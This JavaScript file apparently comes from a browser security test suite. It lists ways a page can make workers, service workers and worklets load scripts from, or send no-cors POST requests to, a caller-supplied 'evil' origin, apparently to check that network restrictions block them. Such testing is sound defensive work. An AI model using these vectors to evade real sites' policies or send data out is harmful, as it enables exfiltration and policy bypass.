// Workers and worklets: whose script comes from elsewhere, or which ask for something there themselves.
"use strict";

window.attacks ??= {};

const blobOf = (text, type = "text/javascript") => URL.createObjectURL(new Blob([text], { type }));
const fetches = (evil) => `fetch(${JSON.stringify(evil)}, { mode: "no-cors", method: "POST", body: "x" })`;
const imports = (evil) => `import ${JSON.stringify(`${evil}/x.js`)}`;
const importScript = (evil) => `importScripts(${JSON.stringify(`${evil}/x.js`)})`;
/** A script of the page's own origin, which does what its address says. */
const own = (what, evil) => `./helper/${what}.js?to=${encodeURIComponent(evil)}`;

Object.assign(window.attacks, {
  worker_direct: (evil) => void new Worker(`${evil}/x.js`),
  worker_blob_fetch: (evil) => void new Worker(blobOf(fetches(evil))),
  worker_data_fetch: (evil) => void new Worker(`data:text/javascript,${encodeURIComponent(fetches(evil))}`),
  worker_blob_importScripts: (evil) => void new Worker(blobOf(importScript(evil))),
  worker_blob_module_import: (evil) => void new Worker(blobOf(imports(evil)), { type: "module" }),
  worker_so_fetch: (evil) => void new Worker(own("fetches", evil)),
  worker_so_importScripts: (evil) => void new Worker(own("imports", evil)),
  sharedworker_blob_fetch: (evil) => void new SharedWorker(blobOf(fetches(evil))),
  sharedworker_so_fetch: (evil) => void new SharedWorker(own("fetches", evil)),
  sw_fetch_inside: (evil) => navigator.serviceWorker.register(own("fetches", evil), { scope: "./helper/inside/" }),
  sw_register_cross: (evil) => navigator.serviceWorker.register(`${evil}/x.js`),
  audioworklet: (evil) => new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(`${evil}/x.js`),
  paintworklet: (evil) => (CSS.paintWorklet ? CSS.paintWorklet.addModule(`${evil}/x.js`) : "absent"),
  sharedstorage_worklet: (evil) =>
    window.sharedStorage?.worklet ? sharedStorage.worklet.addModule(`${evil}/x.js`) : "absent",
});
